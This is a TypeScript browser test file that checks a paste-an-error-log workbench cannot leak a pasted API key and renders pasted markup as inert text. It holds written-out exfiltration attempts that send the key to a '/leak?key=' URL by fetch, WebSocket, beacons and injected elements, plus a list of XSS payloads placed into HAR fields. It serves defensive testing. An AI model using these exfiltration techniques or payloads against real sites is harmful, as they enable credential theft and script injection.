import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launch, picture } from './harness/browser.ts'
import { inBrowser } from './harness/in-browser.ts'
import { startService, type ServiceUnderTest } from './harness/service.ts'
import { openWorkbench, type Workbench } from './harness/workbench.ts'
import { key } from './workbench-inputs.ts'

/** Each tries to send the key somewhere, by every means that a page has without leaving it. */
const ways = {
  fetch: (to: string) => fetch(to),
  'fetch without an answer': (to: string) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' }),
  XMLHttpRequest: (to: string) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.addEventListener('load', resolve)
      request.addEventListener('error', reject)
      request.open('GET', to)
      request.send()
    }),
  WebSocket: (to: string) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(to.replace('http', 'ws'))
      socket.addEventListener('open', resolve)
      socket.addEventListener('error', reject)
    }),
  EventSource: (to: string) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(to)
      source.addEventListener('open', resolve)
      source.addEventListener('error', reject)
    }),
  // as text: what runs the tests would replace it
  'import()': '(to) => import(to)',
}

/** Those that only a document has, and that tell nobody whether they were refused. */
const elements = ['img', 'script', 'iframe', 'audio', 'embed', 'link', 'form', 'object'] as const

inBrowser('what is pasted stays in the tab', { timeout: 60_000 }, () => {
  let browser: Browser
  let service: ServiceUnderTest
  let listener: Server
  let elsewhere: string
  const asked: string[] = []
  beforeAll(async () => {
    ;[browser, service] = await Promise.all([launch(), startService()])
    listener = createServer(({ url = '' }, response) => {
      asked.push(url)
      response.setHeader('access-control-allow-origin', '*').end('export {}')
    })
    listener.on('upgrade', ({ url = '' }, socket) => {
      asked.push(url)
      socket.destroy()
    })
    await new Promise<void>((resolve) => void listener.listen(0, '127.0.0.1', resolve))
    elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/leak?key=${key}`
  }, 60_000)
  afterAll(async () => {
    await Promise.all([browser?.close(), service?.close()])
    listener?.closeAllConnections()
    listener?.close()
  })

  test.each(Object.entries(ways))('neither the page nor its worker gets out by %s', async (_, way) => {
    const { page, paste, heading, close } = await openWorkbench(browser, service)
    await paste(`Error 401\nAPI_KEY=${key}`)
    await heading.waitFor()
    const [worker] = page.workers()
    expect(worker).toBeDefined()
    const attempt = `(${String(way)})(${JSON.stringify(elsewhere)}).then(() => 'got out', () => 'refused')`
    expect(await page.evaluate(attempt)).toBe('refused')
    expect(await worker?.evaluate(attempt)).toBe('refused')
    expect(asked).toEqual([])
    await close()
  })

  test('not even to where it came from', async () => {
    const { page, close } = await openWorkbench(browser, service)
    const attempt = `fetch('/openapi.json').then(() => 'got out', () => 'refused')`
    expect(await page.evaluate(attempt)).toBe('refused')
    await expect.poll(() => page.workers().length).toBe(1)
    expect(await page.workers()[0]?.evaluate(attempt.replace('/openapi', `${service.url}/openapi`))).toBe('refused')
    await close()
  })

  test('nor by an element or a beacon', async () => {
    const { page, close } = await openWorkbench(browser, service)
    await page.evaluate(
      ({ names, to }) => {
        navigator.sendBeacon(to, 'x')
        for (const name of names) {
          const element = document.createElement(name)
          const target = { link: 'href', form: 'action', object: 'data' }[name as string] ?? 'src'
          element.setAttribute(target, to)
          if (name === 'link') element.setAttribute('rel', 'stylesheet')
          if (name === 'form') element.setAttribute('target', '_blank')
          document.body.append(element)
          if (element instanceof HTMLFormElement) element.submit()
        }
      },
      { names: elements, to: elsewhere },
    )
    await page.waitForTimeout(500)
    expect(asked).toEqual([])
    await close()
  })

  test('the policy stands in the page itself, so that it holds wherever the files lie', async () => {
    const { page, faults, close } = await openWorkbench(browser, service)
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toContain('connect-src')
    expect(policy).not.toContain('unsafe')
    expect(faults).toEqual([])
    await close()
  })
})

const payloads = [
  '<script>globalThis.hacked=1</script>',
  '<img src=x onerror="globalThis.hacked=1">',
  '"><svg onload=globalThis.hacked=1>',
  "'-globalThis.hacked=1-'",
  'javascript:globalThis.hacked=1',
  '</textarea><script>globalThis.hacked=1</script>',
  '{{constructor.constructor("globalThis.hacked=1")()}}',
  '<a href="javascript:globalThis.hacked=1">here</a>',
  '\u202e<b>hacked</b>\u0000',
] as const

/** The payload in every field of a HAR file and as other inputs. */
function inputsWith(payload: string): string[] {
  const field = [{ name: payload, value: payload }]
  const entry = {
    request: {
      method: payload,
      url: `https://api.example.com/${payload}?a=${payload}`,
      headers: field,
      postData: { text: payload },
    },
    response: {
      status: 401,
      statusText: payload,
      headers: field,
      content: { text: `${payload} invalid api key has expired ${payload}` },
      redirectURL: payload,
    },
    _error: payload,
  }
  const named = {
    ...entry,
    request: { ...entry.request, method: 'GET', headers: [{ name: 'X-API-Key', value: payload }] },
  }
  return [
    JSON.stringify({ log: { version: payload, entries: [entry, named] } }),
    `${payload}\n401 Unauthorized: ${payload} is an invalid api key\nAPI_KEY=${payload}\n${payload}=${key}`,
    `curl 'https://api.example.com/${payload}' -H 'Authorization: ${payload}' -d '${payload}'`,
    JSON.stringify({
      symptom: { text: `401 ${payload}`, remarks: [`It works with curl ${payload}`], config: `KEY=${payload}` },
    }),
  ]
}

inBrowser('whatever is pasted is shown as text', { timeout: 120_000 }, () => {
  let browser: Browser
  let service: ServiceUnderTest
  // One page for all: what an earlier paste left behind would be found as well.
  let bench: Workbench
  beforeAll(async () => {
    ;[browser, service] = await Promise.all([launch(), startService()])
    bench = await openWorkbench(browser, service)
  }, 60_000)
  afterAll(() => Promise.all([browser?.close(), service?.close()]))

  test.each(payloads)('%s', async (payload) => {
    const { page, faults, field, heading } = bench
    for (const input of inputsWith(payload)) {
      await field.fill('')
      await expect.poll(() => heading.count()).toBe(0)
      await field.fill(input)
      await heading.waitFor()
      await page.locator('section[aria-busy="false"]').waitFor()
      const choices = page.getByRole('region', { name: 'Causes by likelihood' }).getByRole('button')
      for (const choice of await choices.all()) await choice.click()
      expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
      const answer = page.getByRole('region', { name: 'The answer' })
      expect(await answer.locator('script, img, iframe, [onerror], [onload], a[href^="javascript"], b').count()).toBe(0)
    }
    if (payload === payloads[0]) await picture(page, 'workbench-markup')
    expect(faults).toEqual([])
  })
})
